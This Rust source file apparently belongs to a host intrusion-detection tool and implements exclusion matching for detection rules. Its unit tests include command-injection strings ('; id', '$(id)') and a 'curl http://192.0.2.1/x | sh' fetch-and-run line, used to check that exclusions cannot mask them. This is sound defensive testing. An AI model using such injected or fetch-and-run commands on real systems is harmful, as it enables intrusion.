//! Exclusions: narrow exceptions to a rule, every given field having to match.

use regex::Regex;

use super::{
    DetectError,
    exclusion_workload::WorkloadMatch,
    family::{Families, FamilyId},
    matcher::{ExeMatcher, anchored_regex, single_exe},
    payload::without_end_of_options,
};
use crate::{
    config::Exclusion as ExclusionConfig,
    lineage::{ContainerNames, Image},
};

/// What an exclusion is checked against.
pub struct Subject<'a> {
    /// None for a file rule's writer with no server above it.
    pub family: Option<FamilyId>,
    pub parent: Option<&'a Image>,
    pub image: &'a Image,
    pub uid: u32,
    /// The runtime's names of the process's container, when known.
    pub container: Option<&'a ContainerNames>,
}

pub struct Exclusion {
    family: Option<FamilyId>,
    parent: Option<ExeMatcher>,
    child: Option<ExeMatcher>,
    args: Option<Vec<Regex>>,
    users: Vec<u32>,
    workload: Option<WorkloadMatch>,
}

impl Exclusion {
    pub fn compile_all(
        list: &[ExclusionConfig],
        field: &str,
        families: &Families,
    ) -> Result<Vec<Exclusion>, DetectError> {
        list.iter()
            .enumerate()
            .map(|(i, e)| Self::compile(e, &format!("{field}[{i}]"), families))
            .collect()
    }

    fn compile(e: &ExclusionConfig, field: &str, families: &Families) -> Result<Self, DetectError> {
        let workload = WorkloadMatch::compile(e, field)?;
        if e.family.is_none()
            && e.parent.is_none()
            && e.child.is_none()
            && e.args.is_none()
            && e.users.is_empty()
            && workload.is_none()
        {
            return Err(DetectError::invalid(
                field,
                "an exclusion needs at least one of family, parent, child, args, users, \
                 container, orchestrator",
            ));
        }
        let family = match &e.family {
            Some(name) => Some(families.id(name).ok_or_else(|| {
                DetectError::invalid(
                    &format!("{field}.family"),
                    format!("no family named {name:?}"),
                )
            })?),
            None => None,
        };
        let args = match &e.args {
            Some(list) => Some(
                list.iter()
                    .enumerate()
                    .map(|(i, p)| anchored_regex(p, &format!("{field}.args[{i}]")))
                    .collect::<Result<Vec<_>, _>>()?,
            ),
            None => None,
        };
        Ok(Self {
            family,
            parent: e
                .parent
                .as_deref()
                .map(|p| single_exe(p, &format!("{field}.parent")))
                .transpose()?,
            child: e
                .child
                .as_deref()
                .map(|p| single_exe(p, &format!("{field}.child")))
                .transpose()?,
            args,
            users: e.users.clone(),
            workload,
        })
    }

    pub fn matches(&self, s: &Subject<'_>) -> bool {
        if self.family.is_some_and(|f| Some(f) != s.family) {
            return false;
        }
        if !self.users.is_empty() && !self.users.contains(&s.uid) {
            return false;
        }
        if self
            .workload
            .as_ref()
            .is_some_and(|w| !w.matches(s.container))
        {
            return false;
        }
        if let Some(child) = &self.child
            && !child.is_match(&s.image.exe, s.image.name())
        {
            return false;
        }
        if let Some(parent) = &self.parent
            && !s.parent.is_some_and(|p| parent.is_match(&p.exe, p.name()))
        {
            return false;
        }
        if let Some(args) = &self.args {
            // `sh -c -- CMD` (glibc 2.38+ system() and popen()) is `sh -c CMD` to the shell,
            // so to an exclusion too.
            let argv = without_end_of_options(&s.image.argv);
            // A truncated argv is not the whole command: never excluded on its start alone.
            if s.image.argv_truncated
                || args.len() != argv.len()
                || !args
                    .iter()
                    .zip(argv.iter())
                    .all(|(re, arg)| re.is_match(arg))
            {
                return false;
            }
        }
        true
    }
}

pub fn any_matches(list: &[Exclusion], s: &Subject<'_>) -> bool {
    list.iter().any(|e| e.matches(s))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::config::{DetectConfig, ShellRuleConfig};

    use crate::lineage::test_image as image;

    #[test]
    fn sendmail_exclusion_is_narrow() {
        let families = Families::new(&DetectConfig::default()).expect("families");
        let list = Exclusion::compile_all(
            &ShellRuleConfig::default().exclude,
            "rules.server_spawned_shell.exclude",
            &families,
        )
        .expect("defaults compile");
        let php = families.id("php").expect("php");
        let parent = image("/usr/sbin/php-fpm8.2", &["php-fpm: pool www"]);
        let check = |argv: &[&str]| {
            any_matches(
                &list,
                &Subject {
                    family: Some(php),
                    parent: Some(&parent),
                    image: &image("/bin/sh", argv),
                    uid: 33,
                    container: None,
                },
            )
        };
        assert!(check(&["sh", "-c", "/usr/sbin/sendmail -t -i"]));
        // glibc 2.38+ popen(): the same command to the shell, so to the exclusion.
        assert!(check(&["sh", "-c", "--", "/usr/sbin/sendmail -t -i"]));
        assert!(!check(&["sh", "-c", "--", "/usr/sbin/sendmail -t -i; id"]));
        assert!(!check(&[
            "sh",
            "-c",
            "--",
            "--",
            "/usr/sbin/sendmail -t -i"
        ]));
        assert!(check(&[
            "sh",
            "-c",
            "/usr/sbin/sendmail -t -i -f www@example.org"
        ]));
        assert!(!check(&["sh", "-c", "/usr/bin/anything"]));
        assert!(!check(&["sh", "-c", "/usr/sbin/sendmail -t -i; id"]));
        assert!(!check(&["sh", "-c", "/usr/sbin/sendmail -t -i\nid"]));
        assert!(!check(&["sh", "-c", "/usr/sbin/sendmail -t -i", "extra"]));
        assert!(!check(&["sh", "-c", "/usr/sbin/sendmail -t -i -f a$(id)"]));
        assert!(check(&[
            "sh",
            "-c",
            "ffmpeg -i /var/www/up/a.mp4 -vf scale=320:-1 /tmp/a.jpg"
        ]));
        assert!(!check(&[
            "sh",
            "-c",
            "ffmpeg -i x; curl http://192.0.2.1/x | sh"
        ]));
    }

    #[test]
    fn empty_exclusion_and_unknown_family_are_refused() {
        let families = Families::new(&DetectConfig::default()).expect("families");
        let err =
            Exclusion::compile_all(&[ExclusionConfig::default()], "rules.x.exclude", &families)
                .err()
                .expect("empty")
                .to_string();
        assert!(err.contains("rules.x.exclude[0]"), "{err}");
        let bad = ExclusionConfig {
            family: Some("nope".into()),
            ..ExclusionConfig::default()
        };
        let err = Exclusion::compile_all(&[bad], "rules.x.exclude", &families)
            .err()
            .expect("unknown family")
            .to_string();
        assert!(err.contains("rules.x.exclude[0].family"), "{err}");
    }
}
